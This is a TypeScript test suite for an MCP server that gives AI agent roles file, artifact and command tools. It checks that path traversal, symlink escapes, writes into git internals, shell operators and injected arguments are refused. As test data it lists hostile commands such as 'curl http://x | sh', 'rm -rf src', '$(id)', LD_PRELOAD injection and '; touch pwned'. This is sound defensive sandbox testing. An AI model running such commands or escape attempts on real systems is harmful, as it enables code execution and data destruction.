// Files, artifacts and commands over real MCP stdio: path resolution, strict roots, the command
// allowlist (no shell), timeouts, output caps, tool_install argv, artifacts kept out of git.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { parseArgv, tokenize } from '../src/host/commands.js';
import { isInside, utf8Prefix } from '../src/host/files.js';
import { LockstepError } from '../src/errors.js';
import { cli, git, initAgent, makeRepo, sleep, toolError } from './helpers.js';

const codeOf = async (p: Promise<unknown>) => (await toolError(p)).code;

interface Run {
  stdout: string;
  stderr: string;
  exitCode: number | null;
  timedOut: boolean;
  stdoutTruncated: boolean;
}

/** A directory outside every test repository, removed with the process's temp files. */
function outsideDir(): string {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'lockstep-outside-')));
  fs.writeFileSync(path.join(dir, 'secret.txt'), 'secret\n');
  return dir;
}

function domainCode(fn: () => unknown): string {
  try {
    fn();
  } catch (err) {
    assert.ok(err instanceof LockstepError, String(err));
    return err.code;
  }
  assert.fail('expected a LockstepError');
}

// ---- tokenizer (pure) ----

test('tokenize: quotes, escapes and operators, POSIX-like', () => {
  const words = (s: string) => tokenize(s).map((t) => ('word' in t ? t.word : `<${t.op}>`));
  assert.deepEqual(words(`git log --format='%s %an' -n 2`), ['git', 'log', '--format=%s %an', '-n', '2']);
  assert.deepEqual(words(`echo "a \\"b\\" \\$HOME \\x" c\\ d ''`), ['echo', 'a "b" $HOME \\x', 'c d', '']);
  assert.deepEqual(words(`echo $HOME ~ *.ts`), ['echo', '$HOME', '~', '*.ts']);
  assert.deepEqual(words(`a&&b||c;d|e&f>g<h>>i`), ['a', '<&&>', 'b', '<||>', 'c', '<;>', 'd', '<|>', 'e', '<&>', 'f', '<>>', 'g', '<<>', 'h', '<>>>', 'i']);
  assert.deepEqual(words('a `id` $(id) "$(id)" \'`id`\''), ['a', '<`>', 'id', '<`>', '<$(>', 'id', '<)>', '$(id)', '`id`']);
  assert.deepEqual(words('a\nb'), ['a', '<\n>', 'b']);
  assert.deepEqual(words('a \\\nb "c\\\nd"'), ['a', 'b', 'cd']);
  assert.deepEqual(words('  '), []);
});

test('tokenize: unclosed quotes and a trailing backslash are INVALID_INPUT; operators are COMMAND_NOT_ALLOWED', () => {
  for (const bad of [`echo 'abc`, `echo "abc`, `echo "a\\"`, 'echo \\']) assert.equal(domainCode(() => tokenize(bad)), 'INVALID_INPUT', bad);
  for (const bad of ['git status && curl http://x | sh', 'git status; rm -rf x', 'git `id`', '$(id)', 'ls > out', 'a\nb', 'sleep 1 &']) {
    assert.equal(domainCode(() => parseArgv(bad)), 'COMMAND_NOT_ALLOWED', bad);
  }
  assert.equal(domainCode(() => parseArgv('   ')), 'INVALID_INPUT');
  assert.deepEqual(parseArgv(`git commit -m "a; b && c | d"`), ['git', 'commit', '-m', 'a; b && c | d']);
});

test('isInside is a path check, and a cut never splits a UTF-8 character', () => {
  assert.ok(isInside('/root/a/b', '/root') && isInside('/root', '/root') && isInside('/root/..x', '/root'));
  assert.ok(!isInside('/root-other/a', '/root') && !isInside('/', '/root') && !isInside('/root/../etc', '/root'));
  const s = Buffer.from('aé€😀');
  assert.deepEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10].map((n) => utf8Prefix(s.subarray(0, n)).toString()), ['a', 'a', 'aé', 'aé', 'aé', 'aé€', 'aé€', 'aé€', 'aé€', 'aé€😀']);
});

// ---- files ----

test('L8: relative paths resolve against the repository root, not the server cwd', async () => {
  const repo = makeRepo();
  // --repo names a subfolder: the server still works from the top of the work tree.
  const impl = await initAgent(path.join(repo, 'src'), 'implementer', 'impl-1');
  assert.notEqual(process.cwd(), repo);
  const w = await impl.call<{ path: string; bytes: number }>('file_write', { path: 'x.txt', content: 'hello\n' });
  assert.equal(w.path, path.join(repo, 'x.txt'));
  assert.equal(w.bytes, 6);
  assert.equal(fs.readFileSync(path.join(repo, 'x.txt'), 'utf8'), 'hello\n');
  assert.ok(!fs.existsSync(path.join(process.cwd(), 'x.txt')) && !fs.existsSync(path.join(repo, 'src', 'x.txt')));

  assert.equal((await impl.call<{ content: string }>('file_read', { path: 'src/a.ts' })).content, 'export const a = 1;\n');
  await impl.call('file_write', { path: 'x.txt', content: 'more\n', mode: 'append' });
  assert.equal((await impl.call<{ content: string }>('file_read', { path: 'x.txt' })).content, 'hello\nmore\n');
  await impl.call('file_write', { path: 'deep/er/y.txt', content: 'y' });
  assert.ok(fs.existsSync(path.join(repo, 'deep', 'er', 'y.txt')));
  assert.equal(await codeOf(impl.call('file_write', { path: 'nope/z.txt', content: 'z', createDirs: false })), 'FILE_NOT_FOUND');

  // bytes: base64 in and out, and truncation at maxBytes.
  const bytes = Buffer.from([0, 1, 2, 255, 254]);
  await impl.call('file_write', { path: 'bin.dat', content: bytes.toString('base64'), encoding: 'base64' });
  assert.deepEqual(fs.readFileSync(path.join(repo, 'bin.dat')), bytes);
  assert.equal((await impl.call<{ content: string }>('file_read', { path: 'bin.dat', binary: true })).content, bytes.toString('base64'));
  const cut = await impl.call<{ content: string; truncated: boolean }>('file_read', { path: 'x.txt', maxBytes: 3 });
  assert.deepEqual(cut, { path: path.join(repo, 'x.txt'), content: 'hel', truncated: true, offset: 0, nextOffset: 3 });

  assert.equal(await codeOf(impl.call('file_read', { path: 'missing.txt' })), 'FILE_NOT_FOUND');
  assert.equal(await codeOf(impl.call('file_read', { path: 'src' })), 'INVALID_INPUT');
  assert.equal(await codeOf(impl.call('file_read', { path: 'x.txt', maxBytes: 9 * 1024 * 1024 })), 'INVALID_INPUT');
  assert.equal(await codeOf(impl.call('file_write', { path: 'b64.dat', content: 'not base64!', encoding: 'base64' })), 'INVALID_INPUT');
  fs.writeFileSync(path.join(repo, 'utf.txt'), 'hé');
  // A pipe would block the server forever: refused.
  execFileSync('mkfifo', [path.join(repo, 'fifo')]);
  assert.equal(await codeOf(impl.call('file_read', { path: 'fifo' })), 'INVALID_INPUT');
  assert.equal(await codeOf(impl.call('file_write', { path: 'fifo', content: 'x' })), 'INVALID_INPUT');
  assert.equal((await impl.call<{ content: string }>('file_read', { path: 'utf.txt', maxBytes: 2 })).content, 'h');
});

test('git internals are never written, in open mode too', async () => {
  const repo = makeRepo();
  const impl = await initAgent(repo, 'implementer', 'impl-1');
  const config = fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8');
  for (const p of ['.git/config', 'src/../.git/hooks/pre-commit', path.join(repo, '.git', 'HEAD'), 'sub/.git/x']) {
    assert.equal(await codeOf(impl.call('file_write', { path: p, content: 'x' })), 'PATH_PROTECTED', p);
  }
  assert.equal(fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8'), config);
  assert.ok(!fs.existsSync(path.join(repo, '.git', 'hooks', 'pre-commit')));
  // A symlink to .git does not get around it.
  fs.symlinkSync('.git', path.join(repo, 'g'));
  assert.equal(await codeOf(impl.call('file_write', { path: 'g/config', content: 'x' })), 'PATH_PROTECTED');
  // Reading is fine.
  assert.match((await impl.call<{ content: string }>('file_read', { path: '.git/HEAD' })).content, /^ref: refs\/heads\/main/);
});

test('L8: strict mode: .., absolute paths and symlinks cannot leave the roots', async () => {
  const repo = makeRepo();
  const outside = outsideDir();
  const secret = path.join(outside, 'secret.txt');
  fs.symlinkSync(secret, path.join(repo, 'link.txt'));
  fs.symlinkSync(outside, path.join(repo, 'linkdir'));
  fs.symlinkSync(path.join(outside, 'not-yet.txt'), path.join(repo, 'dangling.txt'));
  // The sibling-prefix trick: <repo>-other starts with the repo's path but is not inside it.
  const sibling = `${repo}-other`;
  fs.mkdirSync(sibling);
  fs.writeFileSync(path.join(sibling, 'f.txt'), 'sibling\n');
  const impl = await initAgent(repo, 'implementer', 'impl-1', { extraArgs: ['--mode', 'strict'] });

  const refused = [
    '../outside.txt',
    path.relative(repo, secret),
    secret,
    'link.txt',
    'linkdir/secret.txt',
    'linkdir/new.txt',
    'dangling.txt',
    path.join(sibling, 'f.txt'),
    `../${path.basename(sibling)}/f.txt`,
  ];
  for (const p of refused) {
    assert.equal(await codeOf(impl.call('file_read', { path: p })), 'PATH_OUTSIDE_ROOTS', `read ${p}`);
    assert.equal(await codeOf(impl.call('file_write', { path: p, content: 'pwned' })), 'PATH_OUTSIDE_ROOTS', `write ${p}`);
  }
  assert.equal(fs.readFileSync(secret, 'utf8'), 'secret\n');
  assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
  assert.equal(fs.readFileSync(path.join(sibling, 'f.txt'), 'utf8'), 'sibling\n');
  assert.equal(await codeOf(impl.call('command_run', { args: ['pwd'], cwd: outside })), 'PATH_OUTSIDE_ROOTS');
  assert.equal(await codeOf(impl.call('command_run', { args: ['pwd'], cwd: 'linkdir' })), 'PATH_OUTSIDE_ROOTS');

  // Inside the root everything works, absolute or relative, through symlinks that stay inside.
  fs.symlinkSync('src', path.join(repo, 'srclink'));
  assert.equal((await impl.call<{ content: string }>('file_read', { path: path.join(repo, 'README.md') })).content, '# test\n');
  await impl.call('file_write', { path: 'srclink/b.ts', content: 'b' });
  assert.equal(fs.readFileSync(path.join(repo, 'src', 'b.ts'), 'utf8'), 'b');
  fs.rmSync(sibling, { recursive: true });
  fs.rmSync(outside, { recursive: true });
});

test('L8: strict mode with --roots: only those folders, and src-other is not src', async () => {
  const repo = makeRepo();
  fs.mkdirSync(path.join(repo, 'docs'));
  fs.mkdirSync(path.join(repo, 'src-other'));
  fs.writeFileSync(path.join(repo, 'src-other', 'x.ts'), 'x');
  const impl = await initAgent(repo, 'implementer', 'impl-1', { extraArgs: ['--mode', 'strict', '--roots', 'src, docs'] });
  assert.equal((await impl.call<{ content: string }>('file_read', { path: 'src/a.ts' })).content, 'export const a = 1;\n');
  await impl.call('file_write', { path: 'docs/new.md', content: '# new\n' });
  for (const p of ['README.md', 'src-other/x.ts', path.join(repo, 'src-other', 'x.ts'), 'src/../README.md']) {
    assert.equal(await codeOf(impl.call('file_read', { path: p })), 'PATH_OUTSIDE_ROOTS', p);
  }
  // The default cwd (the repo root) is outside these roots too.
  assert.equal(await codeOf(impl.call('command_run', { args: ['pwd'] })), 'PATH_OUTSIDE_ROOTS');
  assert.equal((await impl.call<Run>('command_run', { args: ['pwd'], cwd: 'src' })).stdout, `${path.join(repo, 'src')}\n`);
});

test('server flags are validated: a bad value is INVALID_INPUT and exit 1', () => {
  const repo = makeRepo();
  for (const args of [
    ['--mode', 'locked'],
    ['--command-mode', 'shell'],
    ['--roots', 'src'],
    ['--command-allow', 'git'],
    ['--mode', 'strict', '--roots', 'no-such-dir'],
  ]) {
    const r = cli(repo, 'server', ...args);
    assert.equal(r.status, 1, args.join(' '));
    assert.match(r.stderr, /^error\[INVALID_INPUT\]/, args.join(' '));
    assert.equal(r.stdout, '');
  }
});

// ---- commands ----

test('L7: allowlist mode: no shell, operators refused, argv[0] must be listed', async () => {
  const repo = makeRepo();
  const impl = await initAgent(repo, 'implementer', 'impl-1', { extraArgs: ['--command-mode', 'allowlist', '--command-allow', 'git,echo'] });
  const refused = ['git status && curl http://x | sh', 'git status; rm -rf x', 'git `id`', '$(id)', 'echo a > pwned.txt', 'rm -rf src', 'sh -c id', './git status', 'git status\nrm -rf src'];
  for (const command of refused) assert.equal(await codeOf(impl.call('command_run', { command })), 'COMMAND_NOT_ALLOWED', command);
  assert.equal(await codeOf(impl.call('command_run', { args: ['rm', '-rf', 'src'] })), 'COMMAND_NOT_ALLOWED');
  assert.equal(await codeOf(impl.call('command_run', { command: 'git status', env: { LD_PRELOAD: '/tmp/x.so' } })), 'COMMAND_NOT_ALLOWED');
  assert.equal(await codeOf(impl.call('tool_install', { manager: 'npm', args: ['--version'] })), 'COMMAND_NOT_ALLOWED');
  assert.equal(await codeOf(impl.call('command_run', { command: `echo 'unclosed` })), 'INVALID_INPUT');
  assert.equal(await codeOf(impl.call('command_run', { command: 'git status', args: ['git', 'status'] })), 'INVALID_INPUT');
  assert.equal(await codeOf(impl.call('command_run', {})), 'INVALID_INPUT');
  assert.ok(fs.existsSync(path.join(repo, 'src', 'a.ts')) && !fs.existsSync(path.join(repo, 'pwned.txt')));

  const status = await impl.call<Run>('command_run', { command: 'git status --porcelain' });
  assert.equal(status.exitCode, 0);
  const log = await impl.call<Run>('command_run', { command: `git log --format='%s by %an' -n 1` });
  assert.equal(log.stdout, 'initial by Test\n');
  const quoted = await impl.call<Run>('command_run', { command: `git log --format="%s \\"quoted\\"" -n 1` });
  assert.equal(quoted.stdout, 'initial "quoted"\n');
  // Nothing is expanded: there is no shell.
  const echo = await impl.call<Run>('command_run', { command: 'echo $HOME "$(id)" ~ *' });
  assert.equal(echo.stdout, '$HOME $(id) ~ *\n');
  const args = await impl.call<Run>('command_run', { args: ['echo', 'a; touch pwned.txt'] });
  assert.equal(args.stdout, 'a; touch pwned.txt\n');
  assert.ok(!fs.existsSync(path.join(repo, 'pwned.txt')));
  // A non-zero exit is a result, not an error.
  const bad = await impl.call<Run>('command_run', { command: 'git no-such-subcommand' });
  assert.notEqual(bad.exitCode, 0);
  assert.match(bad.stderr, /not a git command/);
});

test('open mode: a command string runs through /bin/sh; args run without it', async () => {
  const repo = makeRepo();
  const impl = await initAgent(repo, 'implementer', 'impl-1');
  assert.equal((await impl.call<Run>('command_run', { command: 'echo a && echo b | tr b c' })).stdout, 'a\nc\n');
  assert.equal((await impl.call<Run>('command_run', { command: 'pwd' })).stdout, `${repo}\n`);
  assert.equal((await impl.call<Run>('command_run', { args: ['echo', '$HOME && x'] })).stdout, '$HOME && x\n');
  assert.equal((await impl.call<Run>('command_run', { command: 'echo $FOO', env: { FOO: 'bar' } })).stdout, 'bar\n');
  assert.equal((await impl.call<Run>('command_run', { command: 'exit 3' })).exitCode, 3);
  assert.equal(await codeOf(impl.call('command_run', { args: ['no-such-program-xyz'] })), 'COMMAND_FAILED_TO_START');
  assert.equal(await codeOf(impl.call('command_run', { command: 'true', cwd: 'no-such-dir' })), 'FILE_NOT_FOUND');
  assert.equal(await codeOf(impl.call('command_run', { command: 'true', timeoutMs: 600_001 })), 'INVALID_INPUT');
  // Roles: reviewers run commands, planners do not.
  const reviewer = await initAgent(repo, 'reviewer', 'rev-1');
  assert.equal((await reviewer.call<Run>('command_run', { args: ['echo', 'ok'] })).stdout, 'ok\n');
  const planner = await initAgent(repo, 'planner', 'planner-1');
  assert.equal(await codeOf(planner.call('command_run', { args: ['echo', 'ok'] })), 'ROLE_FORBIDDEN');
  assert.equal(await codeOf(planner.call('file_write', { path: 'p.txt', content: 'p' })), 'ROLE_FORBIDDEN');
  assert.equal(await codeOf(reviewer.call('tool_install', { manager: 'npm', args: ['--version'] })), 'ROLE_FORBIDDEN');
});

test('L7: a timeout kills the whole process group quickly', async () => {
  const repo = makeRepo();
  const allow = await initAgent(repo, 'implementer', 'impl-1', { extraArgs: ['--command-mode', 'allowlist', '--command-allow', 'sleep'] });
  let t = Date.now();
  const r = await allow.call<Run>('command_run', { command: 'sleep 30', timeoutMs: 300 });
  assert.equal(r.timedOut, true);
  assert.ok(Date.now() - t < 5_000, `took ${Date.now() - t} ms`);

  // Open mode: a background child of the shell dies with it (it is in the same group).
  const open = await initAgent(repo, 'implementer', 'impl-2');
  t = Date.now();
  const bg = await open.call<Run>('command_run', { command: '(sleep 1; touch late.txt) & sleep 30', timeoutMs: 300 });
  assert.equal(bg.timedOut, true);
  assert.ok(Date.now() - t < 5_000, `took ${Date.now() - t} ms`);
  await sleep(1_500);
  assert.ok(!fs.existsSync(path.join(repo, 'late.txt')), 'the background child was killed too');
});

test('output beyond maxOutputBytes is read and discarded, and reported as truncated', async () => {
  const repo = makeRepo();
  const impl = await initAgent(repo, 'implementer', 'impl-1');
  const script = "process.stdout.write('x'.repeat(200000)); process.stderr.write('e')";
  const r = await impl.call<Run & { stderrTruncated: boolean }>('command_run', { args: [process.execPath, '-e', script], maxOutputBytes: 1000 });
  assert.equal(r.exitCode, 0);
  assert.equal(r.stdout, 'x'.repeat(1000));
  assert.equal(r.stdoutTruncated, true);
  assert.equal(r.stderr, 'e');
  assert.equal(r.stderrTruncated, false);
});

test('L7: tool_install passes args as argv, never through a shell', async () => {
  const repo = makeRepo();
  const impl = await initAgent(repo, 'implementer', 'impl-1');
  const r = await impl.call<Run>('tool_install', { manager: 'npm', args: ['--version', '; touch pwned', '$(touch pwned2)'], timeoutMs: 60_000 });
  assert.equal(r.timedOut, false);
  assert.match(r.stdout, /^\d+\.\d+\.\d+/);
  assert.ok(!fs.existsSync(path.join(repo, 'pwned')) && !fs.existsSync(path.join(repo, 'pwned2')));
  assert.equal(await codeOf(impl.call('tool_install', { manager: 'curl', args: [] })), 'INVALID_INPUT');
});

// ---- artifacts ----

test('artifacts live in .lockstep/artifacts, stay out of git status, and cannot escape', async () => {
  const repo = makeRepo();
  const impl = await initAgent(repo, 'implementer', 'impl-1');
  const planner = await initAgent(repo, 'planner', 'planner-1');
  const w = await impl.call<{ path: string; bytes: number }>('artifact_write', { path: 'reports/run.txt', content: 'all green\n' });
  assert.deepEqual(w, { path: 'reports/run.txt', bytes: 10 });
  assert.equal(fs.readFileSync(path.join(repo, '.lockstep', 'artifacts', 'reports', 'run.txt'), 'utf8'), 'all green\n');
  // A planner reads artifacts as files (artifact_read is the implementer's and reviewer's).
  assert.equal((await planner.call<{ content: string }>('file_read', { path: '.lockstep/artifacts/reports/run.txt' })).content, 'all green\n');
  const reviewer = await initAgent(repo, 'reviewer', 'reviewer-1');
  await reviewer.call('artifact_write', { path: 'findings.md', content: '# PASS\n' });
  assert.equal(git(repo, 'status', '--porcelain'), '');
  const exclude = fs.readFileSync(path.join(repo, '.git', 'info', 'exclude'), 'utf8');
  assert.equal(exclude.split('\n').filter((l) => l === '.lockstep/').length, 1, 'added once, by two servers');

  for (const p of ['../escape.txt', 'a/../../escape.txt', '/tmp/escape.txt', '..']) {
    assert.equal(await codeOf(impl.call('artifact_write', { path: p, content: 'x' })), 'INVALID_INPUT', p);
    assert.equal(await codeOf(impl.call('artifact_read', { path: p })), 'INVALID_INPUT', p);
  }
  const outside = outsideDir();
  fs.symlinkSync(outside, path.join(repo, '.lockstep', 'artifacts', 'out'));
  assert.equal(await codeOf(impl.call('artifact_write', { path: 'out/x.txt', content: 'x' })), 'PATH_OUTSIDE_ROOTS');
  assert.equal(await codeOf(impl.call('artifact_read', { path: 'out/secret.txt' })), 'PATH_OUTSIDE_ROOTS');
  assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
  assert.equal(await codeOf(impl.call('artifact_read', { path: 'missing.txt' })), 'FILE_NOT_FOUND');
  fs.rmSync(outside, { recursive: true });
});

test('~ in a tool path is the home directory, for files and command cwd, and strict roots apply after it', async () => {
  const repo = makeRepo();
  const home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'lockstep-home-')));
  fs.mkdirSync(path.join(home, 'x'));
  const open = await initAgent(repo, 'implementer', 'impl-1', { env: { HOME: home } });
  await open.call('file_write', { path: '~/notes.txt', content: 'hi\n' });
  assert.equal(fs.readFileSync(path.join(home, 'notes.txt'), 'utf8'), 'hi\n');
  assert.equal(fs.existsSync(path.join(repo, '~')), false, 'no folder named ~ in the repository');
  assert.equal((await open.call<{ content: string }>('file_read', { path: '~/notes.txt' })).content, 'hi\n');
  assert.equal((await open.call<{ stdout: string }>('command_run', { args: ['pwd'], cwd: '~/x' })).stdout, `${path.join(home, 'x')}\n`);
  const strict = await initAgent(repo, 'implementer', 'impl-2', { env: { HOME: home }, extraArgs: ['--mode', 'strict', '--roots', '~/x'] });
  await strict.call('file_write', { path: '~/x/a.txt', content: 'a' });
  assert.equal(fs.readFileSync(path.join(home, 'x', 'a.txt'), 'utf8'), 'a');
  assert.equal(await codeOf(strict.call('file_write', { path: '~/notes.txt', content: 'no' })), 'PATH_OUTSIDE_ROOTS');
  assert.equal(await codeOf(strict.call('command_run', { args: ['pwd'], cwd: '~' })), 'PATH_OUTSIDE_ROOTS');
});
